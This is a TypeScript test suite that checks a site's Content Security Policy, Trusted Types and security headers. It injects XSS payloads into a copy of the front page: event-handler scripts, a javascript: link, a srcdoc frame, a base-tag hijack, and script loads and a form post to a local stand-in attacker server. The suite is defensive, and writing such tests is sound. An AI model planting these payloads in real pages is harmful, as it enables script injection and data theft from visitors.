import { cpSync, globSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, inject, onTestFinished, test } from 'vitest';
import { type Served, serveSite } from '#adapters/server/serve.ts';
import { headersFor, readHeadersFile } from '#core/host-headers/headers-file.ts';
import { asHeader, policyIn } from '#core/host-headers/policy.ts';
import { allPages, html } from './pages.ts';

/** A copy of the site into whose front page a stranger got their own HTML, before the first script of ours. */
const injected = (attacker: string) => `
<script>window.ran = 'inline'</script>
<script src="data:text/javascript,window.ran='data'"></script>
<script src="${attacker}/evil.js"></script>
<img src="x" onerror="window.ran='handler'" alt="">
<svg onload="window.ran='svg'"></svg>
<a id="trap" href="javascript:void (window.ran='link')">x</a>
<iframe src="about/" title="x"></iframe>
<iframe srcdoc="<script>parent.ran='frame'</script>" title="x"></iframe>
<object data="about/"></object>
<form id="leak" action="${attacker}/"><input name="name" value="Ana"></form>
<base href="${attacker}/">
<style>body { background: url(${attacker}/seen) }</style>`;

const modes = { 'header and page': false, 'page alone, as on GitHub Pages': true };
let folder: string;
let browser: Promise<Browser> | undefined;
const served = new Map<boolean, Served>();
/** Somebody else's server, and what it was asked for. */
const asked: string[] = [];
const attacker = createServer((request, response) => {
  asked.push(request.url ?? '');
  response.end();
});
beforeAll(async () => {
  await new Promise<void>((ready) => attacker.listen(0, '127.0.0.1', ready));
  const address = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  folder = mkdtempSync(join(tmpdir(), 'injected site-'));
  cpSync(inject('folder'), folder, { recursive: true });
  const front = join(folder, 'index.html');
  const text = readFileSync(front, 'utf8').replace(/<body[^>]*>/, (body) => body + injected(address));
  writeFileSync(front, text);
  // The same without the policy: what is held against it is known to run.
  mkdirSync(join(folder, 'unguarded'));
  writeFileSync(join(folder, 'unguarded/index.html'), text.replace(/<meta http-equiv=[^>]*>/i, ''));
  for (const bare of [false, true]) {
    const wish = { port: 0, exactly: true };
    served.set(
      bare,
      await serveSite({ folder, base: new URL(inject('address')).pathname, wish, host: '127.0.0.1', bare }),
    );
  }
});
beforeEach(() => {
  asked.length = 0;
});
afterAll(async () => {
  await (await browser)?.close();
  for (const one of served.values()) await one.close();
  attacker.closeAllConnections();
  attacker.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Goes to a page of the copy in a fresh context, and tells what the browser refused. */
async function visit(path: string, bare: boolean) {
  browser ??= chromium.connect(inject('browser'));
  const context = await (await browser).newContext({ serviceWorkers: 'block', reducedMotion: 'reduce' });
  onTestFinished(() => context.close());
  const page = await context.newPage();
  const refused: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted|Refused|violates/i.test(message.text()))
      refused.push(message.text());
  });
  await page.goto(new URL(path, served.get(bare)?.address).href, { waitUntil: 'load' });
  return { page, refused };
}

/** What the reader is led to do, and whether anything of the injected HTML ran. */
async function ran(page: Page): Promise<unknown> {
  await page.evaluate(() => document.querySelector<HTMLAnchorElement>('#trap')?.click());
  await page.waitForTimeout(200);
  return page.evaluate(() => (window as { ran?: string }).ran);
}

test('the HTML that is injected here would run, were it not for the policy', async () => {
  const { page } = await visit('unguarded/', true);
  expect(await ran(page)).toBe('link');
  expect(asked).toContain('/evil.js');
});

test('every page brings one policy, those of review may ask GitHub too, and the file for hosts has no more than that', () => {
  const text = readFileSync(join(inject('folder'), '_headers'), 'utf8');
  const headers = headersFor(readHeadersFile(text), '/practices/');
  const asking = ['review/', 'review/workbench/'];
  const digests = (policy = '') => policy.match(/'sha256-[^']+'/g) ?? [];
  const plain = (policy = '') => policy.replace(/ 'sha256-[^']+'/g, '');
  const policies = allPages().map((page) => ({ page, policy: policyIn(html(page)) }));
  const wide = policies.find(({ page }) => page === 'review/workbench/')?.policy ?? '';
  const narrow = plain(wide).replace(' https://api.github.com', '');
  expect(narrow).not.toBe(plain(wide));
  for (const { page, policy } of policies) {
    expect(plain(policy), page).toBe(asking.includes(page) ? plain(wide) : narrow);
    expect(digests(wide), page).toEqual(expect.arrayContaining(digests(policy)));
    if (page !== 'review/workbench/') expect(digests(policy).length, page).toBeLessThan(4);
  }
  expect(headers['Content-Security-Policy']).toBe(asHeader(wide));
  expect(headers).toMatchObject({
    'X-Content-Type-Options': 'nosniff',
    'Referrer-Policy': 'strict-origin-when-cross-origin',
    'Cross-Origin-Opener-Policy': 'same-origin',
    'Permissions-Policy': expect.stringContaining('camera=()'),
  });
});

test('the policy lets in nothing but files of the site, and no text as code', () => {
  const policy = policyIn(html('')) ?? '';
  const parts = new Map(policy.split(';').map((part) => [part.trim().split(' ')[0], part.trim()]));
  expect(parts.get('default-src')).toBe("default-src 'none'");
  expect(parts.get('require-trusted-types-for')).toBe("require-trusted-types-for 'script'");
  expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|unsafe-hashes|https?:|\*|data:|blob:/);
});

describe.each(Object.entries(modes))('%s', (_, bare) => {
  test('HTML that got into a page runs nothing, shows no frame, and sends nothing', async () => {
    const { page, refused } = await visit('', bare);
    expect(await ran(page)).toBeUndefined();
    await page.evaluate(() => document.querySelector<HTMLFormElement>('#leak')?.submit());
    await page.waitForTimeout(200);
    expect(asked).toEqual([]);
    expect(refused.length).toBeGreaterThanOrEqual(8);
    expect(new URL(page.url()).pathname).toBe(new URL(served.get(bare)?.address ?? '').pathname);
    expect(page.frames().filter((frame) => frame.url().startsWith('http'))).toHaveLength(1);
    expect(await page.evaluate(() => document.baseURI)).not.toContain('attacker');
  });

  test('text becomes no HTML and no code, whoever asks', async () => {
    const { page } = await visit('about/', bare);
    const tried = await page.evaluate(() => {
      const attempts: Record<string, () => unknown> = {
        innerHTML: () => {
          document.body.innerHTML = '<p>x</p>';
        },
        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<p>x</p>'),
        DOMParser: () => new DOMParser().parseFromString('<p>x</p>', 'text/html'),
        'a worker of another site': () => new Worker('https://attacker.invalid/w.js'),
        'a worker from text': () => new Worker('data:text/javascript,1'),
        'a policy of its own': () =>
          (
            globalThis as unknown as {
              trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
            }
          ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
      };
      return Object.entries(attempts).map(([name, attempt]) => {
        try {
          attempt();
          return `${name} worked`;
        } catch {
          return `${name} refused`;
        }
      });
    });
    expect(tried.filter((one) => one.endsWith('worked'))).toEqual([]);
    expect(tried).toHaveLength(6);
  });

  test('search finds words in whole texts, and the check in the form answers', async () => {
    const word = rareWord();
    const { page, refused } = await visit(`search/?q=${word}`, bare);
    await expect
      .poll(() => page.locator('[data-besides-list] li').count(), { message: word, timeout: 10_000 })
      .toBeGreaterThan(0);
    expect(threads(page)).toContain('pagefind-worker.js');
    await page.goto(new URL('share/', served.get(bare)?.address).href, { waitUntil: 'load' });
    await page.getByLabel('What it is, in a few words').fill('We taught better');
    await expect.poll(() => threads(page)).toContain('/_astro/worker-');
    expect(refused).toEqual([]);
  });
});

/** A long word that one write-up has in its text and no title or post has in any form. */
function rareWord(): string {
  const texts = allPages()
    .filter((page) => /^practices\/[^/]+\/$/.test(page))
    .map((page) => [...html(page).matchAll(/<p>([^<]*)/g)].map(([, text]) => text).join(' '));
  const seen = new Map<string, number>();
  for (const text of texts)
    for (const word of new Set(text.match(/\b[a-z]{9,}\b/g))) seen.set(word, (seen.get(word) ?? 0) + 1);
  const titles = globSync('search-index/**/*.json', { cwd: inject('folder') })
    .map((file) => readFileSync(join(inject('folder'), file), 'utf8'))
    .join('');
  return [...seen].find(([word, count]) => count === 1 && !titles.includes(word.slice(0, 5)))?.[0] ?? '';
}

/** Addresses of the threads of a page. */
const threads = (page: Page): string =>
  page
    .workers()
    .map((one) => one.url())
    .join(' ');

test('another site may not show a page of this one in a frame, where the host sends the header', async () => {
  const { page } = await visit('about/', false);
  const address = served.get(false)?.address ?? '';
  await page.route('http://other.test/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${address}about/"></iframe>` }),
  );
  await page.goto('http://other.test/');
  expect(await page.frames()[1]?.evaluate(() => document.querySelectorAll('h1').length)).toBe(0);
});
